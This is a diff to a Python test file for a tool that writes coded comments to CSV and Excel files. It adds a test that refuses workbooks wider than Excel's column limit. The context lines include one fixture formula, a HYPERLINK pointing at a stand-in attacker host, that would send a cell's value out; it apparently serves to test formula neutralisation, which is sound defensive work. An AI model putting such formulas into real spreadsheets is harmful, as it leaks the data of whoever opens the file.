@@ -17,7 +17,7 @@ from coder.codebook_io import parse_codebook
 from coder.errors import OutputError
 from coder.fileio import atomic_open, atomic_path, atomic_write_text
 from coder.results import CommentResult, Evidence, Suggestion
-from coder.table_out import XLSX_CELL_CHARS, open_rows
+from coder.table_out import XLSX_CELL_CHARS, XLSX_COLUMNS, open_rows
 from coder.writers import JsonlWriter, LongWriter, WideWriter, added_columns, neutralise
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -357,4 +357,16 @@ def test_sigterm_part_way_through_a_write_leaves_neither_the_file_nor_a_temporar
     finally:
         signal.signal(signal.SIGTERM, before)
     assert caught.value.code == 128 + signal.SIGTERM
+    assert list(tmp_path.iterdir()) == []
+
+
+def test_a_workbook_wider_than_excel_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
+    path = tmp_path / "wide.xlsx"
+    with pytest.raises(OutputError) as caught, open_rows(path) as rows:
+        rows.write([f"group {i}" for i in range(XLSX_COLUMNS)])  # as wide as Excel goes: fine
+        rows.write([f"group {i}" for i in range(XLSX_COLUMNS + 1)])
+    assert str(caught.value) == (
+        f"{path}: row 2 has 16,385 columns, more than an Excel sheet holds (16,384); write CSV "
+        "instead (a name ending in .csv)"
+    )
     assert list(tmp_path.iterdir()) == []
